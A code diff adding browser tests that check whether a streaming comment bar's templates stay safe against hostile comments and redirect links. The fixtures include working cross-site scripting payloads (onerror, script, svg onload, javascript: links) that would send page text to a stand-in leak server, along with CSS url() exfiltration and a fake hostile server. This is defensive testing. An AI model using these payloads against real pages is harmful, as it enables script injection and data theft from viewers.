@@ -7,16 +7,29 @@ server, against `commentbar serve` reading a WebSocket relay with the viewer mem
 shows within a second, a first-time viewer is marked, a deletion removes the row, a pin arrives;
 nothing the page can send changes the bar; the Host, the Origin and paths are checked.
 
+Issue 46: templates that start as the real ones do (Tests/doors/templates/ping: Pintocuru's ping
+to the other loopback name with a 1 s timeout; flow: kkkaoru's flow-comment, its settings read
+from 127.0.0.1's plugin API first) read comments; the presets, opened with an address (or a
+stylesheet) that points OneSDK at a hostile server on another loopback port, and given markup in
+every string field of a comment, run nothing of it and send nothing anywhere but to their own
+server.
+
     COMMENTBAR_BIN=.build-release/static/commentbar COMMENTBAR_VUE_JS=build/onecomme/vue.min.js \\
         /usr/bin/python3 Tests/doors/test_templates.py
 """
+import asyncio
 import http.client
+import json
 import os
 import shutil
 import sys
+import threading
 import time
 import unittest
+from urllib.parse import quote, urlsplit
 
+import websockets
+import websockets.legacy.server
 from selenium.webdriver.common.by import By
 
 HERE = os.path.dirname(os.path.abspath(__file__))
@@ -33,6 +46,96 @@ CHANGING_REQUESTS = [("POST", path) for path in ("/api/pin", "/api/unpin", "/api
                                                   "/api/events", "/templates/custom/plainjs/index.html", "/sub")] + \
     [("PUT", "/api/comments"), ("DELETE", "/api/comments"), ("PATCH", "/api/services")]
 CONTROL_PATHS = ["/api/events", "/api/pin", "/api/unpin", "/api/viewer", "/api/speech", "/api/search?q=x", "/api/token"]
+TEMPLATES = ("plainjs", "vue3", "ping", "flow")
+# The only picture a page may load that is not on its own server: an emote (https, a named host;
+# .invalid never resolves).
+EMOTE = "https://emote.invalid/kappa.png"
+
+
+def markup(field, leak_to):
+    """What a hostile comment puts in `field`: markup that, if it ever runs, marks the page
+    (window.__pwned) and sends the page's text to `leak_to`."""
+    run = f"window.__pwned='{field}';new Image().src='{leak_to}/leak?'+encodeURIComponent(document.body.innerText)"
+    return (f'<b>{field}</b><img src="x" onerror="{run}"><script>{run}</script>'
+            f'<svg onload="{run}"></svg><a href="javascript:{run}">{field}-link</a>')
+
+
+def hostile_comment(id, leak_to):
+    """A OneComme comment with markup in every string field and pictures that lead to `leak_to`."""
+    mark = lambda field: markup(field, leak_to)  # noqa: E731
+    return {
+        "id": mark("connection"), "service": mark("service"), "name": mark("serviceName"), "url": mark("url"),
+        "color": {"r": "0); background: url(" + leak_to + "/colour.png", "g": 0, "b": 0},
+        "data": {
+            "id": id, "userId": mark("userId"), "liveId": mark("liveId"), "name": mark("name"),
+            "displayName": mark("displayName"), "nickname": mark("nickname"),
+            "comment": mark("comment") + f' <img src="{EMOTE}" alt="Kappa" class="emoji">'
+                       f' <img src="{leak_to}/emote.png" alt="LocalEmote">',
+            "speechText": mark("speechText"), "profileImage": leak_to + "/avatar.png",
+            "badges": [{"url": leak_to + "/badge.png", "label": mark("badge")}],
+            "timestamp": "2026-12-01T00:00:00.000Z", "isOwner": False, "isModerator": False, "isMember": True,
+            "hasGift": True, "isFirstTime": True, "isRepeater": False, "paidText": mark("paidText"),
+            "colors": {"headerBackgroundColor": f"url({leak_to}/header.png)", "headerTextColor": "#fff",
+                       "bodyBackgroundColor": f"url({leak_to}/body.png)", "bodyTextColor": f"url({leak_to}/text.png)"},
+            "giftName": mark("giftName"),
+        },
+    }
+
+
+class HostileServer:
+    """Another OneComme on 127.0.0.1, another port: where an attacker's link (`?host=`, `?port=`,
+    `?protocol=`, `?css=`) would point a template. Every HTTP request gets script-bearing comments
+    (with `Access-Control-Allow-Origin: *`), `/evil.css` sets OneSDK's CSS variables to it, `/sub`
+    sends the same comments as OneComme's messages; every connection it is offered is logged."""
+
+    def __init__(self):
+        self.port = free_port()
+        self.origin = f"http://127.0.0.1:{self.port}"
+        self.log = []
+        self.comments = [hostile_comment(f"hostile-{n}", self.origin) for n in range(2)]
+        self.loop = asyncio.new_event_loop()
+        self.ready = threading.Event()
+        threading.Thread(target=self._run, daemon=True).start()
+        if not self.ready.wait(10):
+            raise AssertionError("the hostile server did not start")
+
+    def _run(self):
+        asyncio.set_event_loop(self.loop)
+        log = self.log
+
+        class Logged(websockets.legacy.server.WebSocketServerProtocol):
+            def connection_made(self, transport):
+                log.append("connection")
+                super().connection_made(transport)
+
+        async def answer(path, headers):
+            log.append(path)
+            if headers.get("Upgrade", "").lower() == "websocket":
+                return None
+            if path.startswith("/evil.css"):
+                css = f":root {{ --one-sdk-host: 127.0.0.1; --one-sdk-port: {self.port}; --one-sdk-protocol: ws; }}"
+                return 200, [("Content-Type", "text/css")], css.encode()
+            return 200, [("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*")], \
+                json.dumps(self.comments).encode()
+
+        async def subscription(socket, _path):
+            for message in ({"type": "connected", "data": {"comments": self.comments}},
+                            {"type": "comments", "data": {"comments": self.comments}},
+                            {"type": "pinned", "data": self.comments[0]}):
+                await socket.send(json.dumps(message))
+            await socket.wait_closed()
+
+        async def main():
+            self.stopped = asyncio.Event()
+            async with websockets.serve(subscription, "127.0.0.1", self.port, process_request=answer,
+                                        create_protocol=Logged):
+                self.ready.set()
+                await self.stopped.wait()
+
+        self.loop.run_until_complete(main())
+
+    def close(self):
+        self.loop.call_soon_threadsafe(self.stopped.set)
 
 
 class TemplatesTest(unittest.TestCase):
@@ -43,7 +146,7 @@ class TemplatesTest(unittest.TestCase):
         cls.bar = Bar({"service": "websocket", "stream_id": "relay", "server": f"ws://127.0.0.1:{cls.relay.port}/chat",
                        "remember": True, "onecomme": True, "onecomme_port": cls.port})
         templates = os.path.join(cls.bar.data, "comment-bar", "templates")
-        for name in ("plainjs", "vue3"):
+        for name in TEMPLATES:
             shutil.copytree(os.path.join(HERE, "templates", name), os.path.join(templates, name))
         cls.bar.send({"actions": ACTIONS})
         cls.bar.wait_log(f"OneComme templates: on http://127.0.0.1:{cls.port}/templates/")
@@ -53,6 +156,8 @@ class TemplatesTest(unittest.TestCase):
             driver = chromium()
             driver.get(f"http://127.0.0.1:{cls.port}/templates/custom/{name}/")
             cls.drivers[name] = driver
+        cls.visitor = chromium()  # the pages of issue 46's tests, one after another
+        cls.hostile = HostileServer()
         cls.pins = 0
         time.sleep(2)  # both pages connected
 
@@ -60,6 +165,8 @@ class TemplatesTest(unittest.TestCase):
     def tearDownClass(cls):
         for driver in cls.drivers.values():
             driver.quit()
+        cls.visitor.quit()
+        cls.hostile.close()
         cls.bar.stop()
         cls.relay.close()
 
@@ -171,6 +278,176 @@ class TemplatesTest(unittest.TestCase):
             time.sleep(1)
             self.relay.comment(f"preset-{preset}", "Viewer", f"{preset} のテスト")
             wait_for(lambda: driver.find_elements(By.CSS_SELECTOR, f'[data-id="preset-{preset}"]'), f"a comment in {preset}")
+
+
+    # Issue 46: the real templates' starts, and the presets against any web page.
+
+    def own_origins(self):
+        return {f"http://{name}:{self.port}" for name in ("127.0.0.1", "localhost", "[::1]")}
+
+    def visit(self, url):
+        """The visitor opens `url`, its network log and the hostile server's emptied first; the
+        page's script errors are kept in window.__errors."""
+        self.visitor.get_log("performance")
+        self.hostile.log.clear()
+        self.visitor.get(url)
+        self.visitor.execute_script("window.__errors = window.__errors || [];"
+                                    "window.addEventListener('error', (e) => { if (e instanceof ErrorEvent) window.__errors.push(e.message); });")
+
+    def addresses_asked(self):
+        """Every address the visitor's page has asked for since `visit` (requests and WebSockets)."""
+        asked = []
+        for entry in self.visitor.get_log("performance"):
+            message = json.loads(entry["message"])["message"]
+            params = message.get("params", {})
+            if message.get("method") == "Network.requestWillBeSent":
+                asked.append(params["request"]["url"])
+            elif message.get("method") == "Network.webSocketCreated":
+                asked.append(params["url"])
+        return asked
+
+    def assert_only_own_server_asked(self, what):
+        for address in self.addresses_asked():
+            parts = urlsplit(address)
+            if parts.scheme == "data" or address == EMOTE:
+                continue
+            origin = f"http://{parts.netloc}"
+            self.assertIn(parts.scheme, ("http", "ws"), f"{what}: asked {address}")
+            self.assertIn(origin, self.own_origins(), f"{what}: asked {address}, not its own server")
+
+    def assert_nothing_ran(self, what):
+        self.assertIsNone(self.visitor.execute_script("return window.__pwned"), f"{what}: hostile markup ran")
+        contacts = [entry[:100] for entry in self.hostile.log]
+        self.assertEqual(contacts, [], f"{what}: the hostile server was contacted")
+
+    def test_7_a_template_that_pings_the_other_loopback_name_first_reads_comments(self):
+        # Pintocuru's templates ask http://localhost:11180/api/info with a 1 s timeout and never
+        # subscribe when it fails; a page served from 127.0.0.1 (or, the other way, from
+        # localhost) asks across origins: the server must let its own other names read /api/.
+        for page, other in (("127.0.0.1", "localhost"), ("localhost", "127.0.0.1")):
+            self.visit(f"http://{page}:{self.port}/templates/custom/ping/")
+            wait_for(lambda: self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-ping"),
+                     f"the ping from {page}", timeout=5)
+            self.assertEqual(self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-ping"), "ok",
+                             f"a page on {page} could not read http://{other}:{self.port}/api/info (CORS)")
+            time.sleep(0.5)  # connected
+            self.relay.comment(f"ping-{page}", "Pinger", f"{page} から")
+            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'li[data-id="ping-{page}"]'),
+                     f"the comment in the ping template on {page}")
+
+    def test_8_flow_comment_reads_its_settings_answer_at_once_and_then_comments(self):
+        # kkkaoru's flow-comment awaits GET http://127.0.0.1:11180/api/plugins/<uid> before it
+        # subscribes; from a page on localhost the answer must come at once and be readable.
+        self.visit(f"http://localhost:{self.port}/templates/custom/flow/")
+        wait_for(lambda: self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-settings"),
+                 "the plugin API's answer", timeout=3)
+        answer = self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-settings")
+        self.assertNotIn("unreadable", answer, "the plugin API's answer could not be read from localhost's page")
+        status, _, body = answer.partition(" ")
+        self.assertGreaterEqual(int(status), 400, f"an unserved route answers an error: {answer}")
+        json.loads(body)
+        time.sleep(0.5)  # connected
+        self.relay.comment("flow-1", "Flower", "流れるコメント")
+        wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, 'li[data-id="flow-1"]'), "the comment in flow")
+
+    def test_9_the_api_is_shared_with_the_servers_own_names_only(self):
+        for origin in sorted(self.own_origins()):
+            headers = self.head("/api/info", origin)
+            self.assertEqual(headers.get("access-control-allow-origin"), origin, origin)
+            self.assertIn("origin", headers.get("vary", "").lower(), origin)
+        for origin in ("http://attacker.example", f"http://127.0.0.1:{self.hostile.port}", "null",
+                       f"https://127.0.0.1:{self.port}", f"http://127.0.0.2:{self.port}"):
+            self.assertIsNone(self.head("/api/info", origin).get("access-control-allow-origin"), origin)
+        status, body = self.raw("/api/info")
+        info = json.loads(body)
+        self.assertEqual(status, 200)
+        self.assertNotEqual(info.get("licensed"), True, "the server may not claim OneComme's licence")
+        for path in ("/templates/preset/bar/", "/templates/preset/simple/index.html",
+                     "/templates/preset/__origin/js/onesdk.js", "/templates/custom/__origin/css/common.css"):
+            self.assertEqual(self.raw(path)[0], 200, path)
+            policy = self.head(path, None).get("content-security-policy", "")
+            self.assertIn("frame-ancestors 'none'", policy, path)
+            connect = next((part.split()[1:] for part in policy.split(";") if part.split()[:1] == ["connect-src"]), None)
+            self.assertIsNotNone(connect, f"{path}: no connect-src in {policy!r}")
+            allowed = self.own_origins() | {origin.replace("http://", "ws://") for origin in self.own_origins()}
+            for source in connect:
+                self.assertIn(source, allowed | {"'self'"}, f"{path}: connect-src {source}")
+
+    def head(self, path, origin):
+        """The headers of GET `path` with `Origin: origin` (lower-case names)."""
+        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
+        connection.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
+        connection.putheader("Host", f"127.0.0.1:{self.port}")
+        if origin:
+            connection.putheader("Origin", origin)
+        connection.endheaders()
+        response = connection.getresponse()
+        response.read()
+        connection.close()
+        return {name.lower(): value for name, value in response.getheaders()}
+
+    def hostile_addresses(self):
+        hostile = self.hostile.port
+        return [f"?host=127.0.0.1&port={hostile}", f"?host=localhost&port={hostile}&protocol=http&pathname=%2Fapi%2Fcomments",
+                f"?protocol=ws&port={hostile}", f"?host=attacker.example&port={hostile}",
+                f"?css={quote(self.hostile.origin + '/evil.css')}", f"?style={quote(':root{--one-sdk-port:' + str(hostile) + '}')}",
+                f"?style={quote('@import url(' + self.hostile.origin + '/evil.css);')}",
+                f"?port={self.port}"]  # its own port: honoured, as the real SDK's ?port= is
+
+    def test_10_presets_pointed_at_a_hostile_server_read_only_their_own(self):
+        for preset in ("bar", "simple"):
+            for number, query in enumerate(self.hostile_addresses()):
+                what = f"{preset}{query}"
+                self.visit(f"http://127.0.0.1:{self.port}/templates/preset/{preset}/{query}")
+                id = f"own-{preset}-{number}"
+                # Connected (its WebSocket), or reading the list again and again (?protocol=http).
+                wait_for(lambda: self.visitor.execute_script("return OneSDK.connected || OneSDK.config.protocol === 'http'")
+                         or self.hostile.log, f"{what}: the page to connect", timeout=8)
+                time.sleep(0.5)
+                self.relay.comment(id, "Viewer", "本物のコメント")
+                wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="{id}"]') or self.hostile.log,
+                         f"{what}: its own server's comment", timeout=8)
+                time.sleep(0.3)  # anything the hostile server would get, it got
+                self.assert_nothing_ran(what)
+                self.assertTrue(self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="{id}"]'),
+                                f"{what}: its own server's comment is not shown")
+                self.assert_only_own_server_asked(what)
+
+    def test_11_markup_in_every_field_from_the_own_server_is_text(self):
+        hostile = self.hostile.origin
+        for preset in ("bar", "simple"):
+            self.visit(f"http://127.0.0.1:{self.port}/templates/preset/{preset}/")
+            wait_for(lambda: self.visitor.execute_script("return OneSDK.connected"), f"{preset} to connect")
+            # Through the bar: every field a relay can fill (name, text, a paid message's amount,
+            # badges), escaped by the server as OneComme's.
+            self.relay.send({"type": "gift", "id": f"paid-{preset}", "user": markup("user", hostile),
+                             "gift": markup("paidText", hostile), "count": 1, "text": markup("text", hostile),
+                             "highlight": "#1e88e5", "badges": [markup("badge", hostile)]})
+            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="paid-{preset}"]'),
+                     f"the paid message in {preset}")
+            time.sleep(0.3)
+            row = self.visitor.find_element(By.CSS_SELECTOR, f'[data-id="paid-{preset}"]')
+            for shown in ("<b>user</b>", "<b>paidText</b>", "<b>text</b>"):
+                self.assertIn(shown, row.get_attribute("textContent"), f"{preset}: {shown} is not shown as text")
+            self.assertEqual(row.find_elements(By.CSS_SELECTOR, "b, script, svg, a, img"), [], preset)
+            self.assert_nothing_ran(f"{preset}, markup from the relay")
+            # Past the server: a comment with raw markup in every field, as if escaping had failed
+            # upstream, given to the page's own OneSDK as its WebSocket would.
+            comment = hostile_comment(f"raw-{preset}", hostile)
+            self.visitor.execute_script("OneSDK._receive({type: 'comments', data: {comments: [arguments[0]]}});"
+                                        "OneSDK._receive({type: 'pinned', data: arguments[0]});", comment)
+            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'li[data-id="raw-{preset}"]'),
+                     f"the raw comment in {preset}")
+            time.sleep(0.5)
+            self.assert_nothing_ran(f"{preset}, raw markup")
+            self.assertEqual(self.visitor.execute_script("return window.__errors"), [], preset)
+            row = self.visitor.find_element(By.CSS_SELECTOR, f'li[data-id="raw-{preset}"]')
+            self.assertEqual(row.find_elements(By.CSS_SELECTOR, "b, script, svg, a"), [], preset)
+            pictures = [image.get_attribute("src") for image in row.find_elements(By.TAG_NAME, "img")]
+            self.assertEqual(pictures, [EMOTE], f"{preset}: only the https emote is a picture")
+            self.assertIn("LocalEmote", row.get_attribute("textContent"), f"{preset}: a refused emote shows its name")
+            self.assertIn("comment", row.get_attribute("textContent"))
+            self.assert_only_own_server_asked(f"{preset}, raw markup")
 
 
 if __name__ == "__main__":
